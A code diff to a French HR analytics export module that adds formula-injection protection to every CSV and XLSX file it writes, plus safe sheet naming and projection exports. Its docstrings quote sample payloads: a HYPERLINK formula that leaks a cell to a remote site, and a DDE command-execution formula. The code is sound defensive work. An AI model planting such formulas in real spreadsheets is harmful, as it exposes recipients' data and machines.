@@ -1,21 +1,32 @@
-"""Exports for training managers: skill gaps and passerelles as XLSX or CSV, with French headers.
+"""Every CSV/XLSX file the project writes: the training managers' skill gaps and passerelles, the projection,
+the retirement forecasts, the ROME title suggestions, and the bytes of the app's download buttons.
 
-Every table leaves through ``workforce.privacy.suppress_small``: a figure resting on fewer than 5 agents is
-blanked and flagged in the column « Masqué (moins de 5 agents) ». Nominative candidate lists (pseudonymised
-agent identifiers) are written only when asked for explicitly, and each such export is recorded in the
-audit log before the function returns; if the record cannot be written the file is deleted.
+Every CSV or XLSX leaves through :func:`write_csv` / :func:`write_xlsx` (or their ``*_bytes`` twins), which
+neutralise formula injection: a label read from an HR extract (a direction, a métier) that starts with ``=``,
+``+``, ``-`` or ``@`` would otherwise run as a formula in the spreadsheet of whoever opens the file
+(``=HYPERLINK("http://…?leak="&B2,"DRH")`` sends a neighbouring cell to a remote site). See :func:`neutralise`;
+``tests/test_export_sanitise.py`` fails when a module writes a spreadsheet file any other way.
 
-An XLSX file carries a « Lisez-moi » sheet stating the scenario, the extract date, the model versions, the
-ROME release and the column definitions; a CSV file gets the same text beside it (``<name>_lisez-moi.txt``).
-CSV files are written the way French spreadsheets open them: ``;`` separator, decimal comma, UTF-8 with BOM.
+Every table of the skills exports leaves through ``workforce.privacy.suppress_small``: a figure resting on fewer
+than 5 agents is blanked and flagged in the column « Masqué (moins de 5 agents) ». Nominative candidate lists
+(pseudonymised agent identifiers) are written only when asked for explicitly, and each such export is recorded
+in the audit log before the function returns; if the record cannot be written the file is deleted.
+
+An XLSX file of the skills exports carries a « Lisez-moi » sheet stating the scenario, the extract date, the
+model versions, the ROME release and the column definitions; a CSV file gets the same text beside it
+(``<name>_lisez-moi.txt``). CSV files are written the way French spreadsheets open them by default (``;``
+separator, decimal comma, UTF-8 with BOM); the projection and forecast CSVs keep ``,`` and the decimal point.
 """
 
 from __future__ import annotations
 
 import datetime as dt
+import io
 import json
+import re
 from dataclasses import dataclass, field
 from pathlib import Path
+from typing import IO
 
 import numpy as np
 import pandas as pd
@@ -284,6 +295,134 @@ def readme_table(analysis: SkillAnalysis, meta: ExportMeta, title: str, sheets: 
     return pd.DataFrame(rows, columns=["Élément", "Valeur"])
 
 
+# ------------------------------------------------------------------------------------------ formula injection
+
+FORMULA_TRIGGERS = frozenset("=+-@\t\r\n\0\uff1d\uff0b\uff0d\uff20")
+"""First characters that make a spreadsheet read a cell as a formula.
+
+OWASP « CSV Injection »: ``=``, ``+``, ``-``, ``@``, tab and carriage return, and the full-width ``＝ ＋ － ＠``
+(some spreadsheets fold them to ASCII); ASVS 5.0 (1.2.10) adds NUL; line feed is taken with carriage return.
+``|`` is left out: alone it triggers nothing, and a DDE payload (``=cmd|' /C calc'!A0``) starts with one of the
+characters above. Only the very first character counts, as in the OWASP rule: « -3,5 » written by us as a
+number stays a number; a text « -3,5 » becomes « '-3,5 »."""
+
+QUOTE = "'"
+_SHEET_FORBIDDEN = re.compile(r"[\[\]:*?/\\]")
+
+
+def neutralise(value):
+    """``value`` with a ``'`` in front when it is a text starting with a formula trigger (the mitigation OWASP
+    and spreadsheets themselves use: the cell is read as text); numbers, NaN, dates and other texts unchanged."""
+    if isinstance(value, str) and value[:1] in FORMULA_TRIGGERS:
+        return QUOTE + value
+    return value
+
+
+def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
+    """A copy of ``frame`` whose text cells and column names are neutralised; numeric, boolean and date
+    columns are kept as they are (a negative number stays a number)."""
+    out = frame.copy()
+    for i in range(out.shape[1]):
+        col = out.iloc[:, i]
+        if not (pd.api.types.is_object_dtype(col) or pd.api.types.is_string_dtype(col)
+                or isinstance(col.dtype, pd.CategoricalDtype)):
+            continue
+        values = col.astype(object).to_numpy()
+        if any(isinstance(v, str) and v[:1] in FORMULA_TRIGGERS for v in values):
+            out.isetitem(i, pd.Series([neutralise(v) for v in values], index=out.index, dtype=object))
+    out.columns = [neutralise(str(c)) for c in out.columns]
+    return out
+
+
+def sheet_title(name: str, taken: set[str] | frozenset = frozenset()) -> str:
+    """An Excel sheet name from ``name``: no ``[]:*?/\\``, no leading or trailing ``'`` (Excel refuses them, so a
+    formula trigger in front gets ``_``, not ``'``), at most 31 characters, unique among ``taken``."""
+    title = _SHEET_FORBIDDEN.sub("_", str(name)).strip("'") or "Feuille"
+    if title[0] in FORMULA_TRIGGERS:
+        title = "_" + title
+    base, n = title[:31], 1
+    title = base
+    while title.lower() in {t.lower() for t in taken}:
+        n += 1
+        title = f"{base[:31 - len(str(n)) - 1]}_{n}"
+    return title
+
+
+def write_csv(frame: pd.DataFrame, target: str | Path | IO[str], *, sep: str = ";", decimal: str = ",",
+              encoding: str = "utf-8-sig") -> None:
+    """Write ``frame`` (no index) as CSV to a path or a text buffer, text cells and headers neutralised.
+
+    The defaults are the French spreadsheet layout (``;``, decimal comma, UTF-8 with BOM)."""
+    if isinstance(target, (str, Path)):
+        Path(target).parent.mkdir(parents=True, exist_ok=True)
+    neutralise_frame(frame).to_csv(target, sep=sep, decimal=decimal, index=False, encoding=encoding)
+
+
+def csv_bytes(frame: pd.DataFrame, *, sep: str = ";", decimal: str = ",") -> bytes:
+    """:func:`write_csv` as bytes (UTF-8 with BOM), for a download button."""
+    buf = io.StringIO()
+    write_csv(frame, buf, sep=sep, decimal=decimal)
+    return ("\ufeff" + buf.getvalue()).encode("utf-8")
+
+
+def _cell(value):
+    """A frame value as openpyxl takes it: NA/NaT -> empty, numpy scalars -> Python numbers."""
+    if value is None or (not isinstance(value, (str, bytes)) and pd.api.types.is_scalar(value) and pd.isna(value)):
+        return None
+    if isinstance(value, np.generic):
+        return value.item()
+    return value
+
+
+def write_xlsx(sheets: dict[str, pd.DataFrame], target: str | Path | IO[bytes]) -> None:
+    """Write one sheet per frame to a path (atomically, through ``<name>.part``) or a binary buffer.
+
+    Streamed (write-only) workbook, a frozen header row and columns sized to their content. Every text cell,
+    header included, is neutralised and written with openpyxl's string type, never as a formula (openpyxl
+    would otherwise turn any text starting with ``=`` into a formula)."""
+    from openpyxl import Workbook
+    from openpyxl.cell import WriteOnlyCell
+    from openpyxl.utils import get_column_letter
+
+    def text_cell(ws, text: str):
+        cell = WriteOnlyCell(ws, value=neutralise(text))
+        cell.data_type = "s"  # also keeps a label such as « #N/A » a text, not an error value
+        return cell
+
+    wb = Workbook(write_only=True)
+    taken: set[str] = set()
+    for name, frame in sheets.items():
+        title = sheet_title(name, taken)
+        taken.add(title)
+        ws = wb.create_sheet(title=title)
+        ws.freeze_panes = "A2"
+        for i, col in enumerate(frame.columns, start=1):
+            width = max([len(str(col))] + [len(str(v)) for v in frame.iloc[:200, i - 1]])
+            ws.column_dimensions[get_column_letter(i)].width = min(max(10, width + 2), 80)
+        ws.append([text_cell(ws, str(c)) for c in frame.columns])
+        columns = [frame.iloc[:, i].astype(object).to_numpy() for i in range(frame.shape[1])]
+        for row in zip(*columns):
+            ws.append([text_cell(ws, v) if isinstance(v, str) else _cell(v) for v in row])
+    if not isinstance(target, (str, Path)):
+        wb.save(target)
+        return
+    path = Path(target)
+    path.parent.mkdir(parents=True, exist_ok=True)
+    tmp = path.with_name(path.name + ".part")
+    try:
+        wb.save(tmp)
+        tmp.replace(path)
+    finally:
+        tmp.unlink(missing_ok=True)
+
+
+def xlsx_bytes(sheets: dict[str, pd.DataFrame]) -> bytes:
+    """:func:`write_xlsx` as bytes, for a download button."""
+    buf = io.BytesIO()
+    write_xlsx(sheets, buf)
+    return buf.getvalue()
+
+
 # ------------------------------------------------------------------------------------------ writing
 
 
@@ -300,49 +439,19 @@ def _write(tables: dict[str, pd.DataFrame], readme: pd.DataFrame, path: Path, fm
     path.parent.mkdir(parents=True, exist_ok=True)
     if fmt == "xlsx":
         path = path.with_suffix(".xlsx")
-        _write_xlsx({"Lisez-moi": readme, **tables}, path)
+        write_xlsx({"Lisez-moi": readme, **tables}, path)
         return [path]
     path = path.with_suffix(".csv")
     written = []
     for i, (name, frame) in enumerate(tables.items()):
         target = path if i == 0 else path.with_name(f"{path.stem}_{_slug(name)}.csv")
-        frame.to_csv(target, sep=";", decimal=",", index=False, encoding="utf-8-sig")
+        write_csv(frame, target)
         written.append(target)
     notice = path.with_name(f"{path.stem}_lisez-moi.txt")
     notice.write_text("\n".join(f"{a} : {b}" if a and b else (a or b) for a, b in readme.itertuples(index=False))
                       + "\n",
                       encoding="utf-8")
     return written + [notice]
-
-
-def _cell(value):
-    """A frame value as openpyxl takes it: NA -> empty, numpy scalars -> Python numbers."""
-    if value is None or value is pd.NA or (isinstance(value, float) and np.isnan(value)):
-        return None
-    if isinstance(value, np.generic):
-        return value.item()
-    return value
-
-
-def _write_xlsx(sheets: dict[str, pd.DataFrame], path: Path) -> None:
-    """Streamed (write-only) workbook: a frozen header row and columns sized to their content."""
-    from openpyxl import Workbook
-    from openpyxl.utils import get_column_letter
-
-    wb = Workbook(write_only=True)
-    for name, frame in sheets.items():
-        ws = wb.create_sheet(title=name[:31])
-        ws.freeze_panes = "A2"
-        for i, col in enumerate(frame.columns, start=1):
-            width = max([len(str(col))] + [len(str(v)) for v in frame[col].head(200)])
-            ws.column_dimensions[get_column_letter(i)].width = min(max(10, width + 2), 80)
-        ws.append([str(c) for c in frame.columns])
-        columns = [frame[c].astype(object).to_numpy() for c in frame.columns]
-        for row in zip(*columns):
-            ws.append([_cell(v) for v in row])
-    tmp = path.with_name(path.name + ".part")
-    wb.save(tmp)
-    tmp.replace(path)
 
 
 def _slug(text: str) -> str:
@@ -407,3 +516,32 @@ def export_passerelles(analysis: SkillAnalysis, path: str | Path, fmt: str = "xl
             raise
     return ExportResult(paths, {k: len(v) for k, v in tables.items()},
                         {"Candidats": int((cands[SUPPRESSED] == "oui").sum())})
+
+
+# ------------------------------------------------------------------------------------------ projection
+
+
+def projection_sheets(result, by: str | None = None) -> dict[str, pd.DataFrame]:
+    """The sheets of a projection file: the published results (wide: one row per year and group, groups under
+    5 agents blanked, see ``Projection.published``), the payroll by direction and the provenance (extract,
+    model versions, code, scenario, seed), one JSON line per row."""
+    prov = json.dumps(result.provenance, ensure_ascii=False, indent=2, default=str)
+    return {"projection": result.published(by, wide=True), "masse_salariale": result.payroll(),
+            "provenance": pd.DataFrame({"provenance": prov.splitlines()})}
+
+
+def export_projection(result, path: str | Path, by: str | None = None) -> list[Path]:
+    """Write a projection to CSV or XLSX by extension: XLSX holds the three sheets of
+    :func:`projection_sheets`; a CSV holds the results (``,`` separator, decimal point: the layout scripts read)
+    and the provenance goes beside it, unchanged, in ``<name>.provenance.json``."""
+    path = Path(path)
+    suffix = path.suffix.lower()
+    if suffix not in (".csv", ".xlsx"):
+        raise ExportError(f"{path} : le fichier de sortie doit finir par .csv ou .xlsx")
+    if suffix == ".xlsx":
+        write_xlsx(projection_sheets(result, by), path)
+        return [path]
+    write_csv(result.published(by, wide=True), path, sep=",", decimal=".", encoding="utf-8")
+    notice = path.with_suffix(".provenance.json")
+    notice.write_text(json.dumps(result.provenance, ensure_ascii=False, indent=2, default=str), encoding="utf-8")
+    return [path, notice]
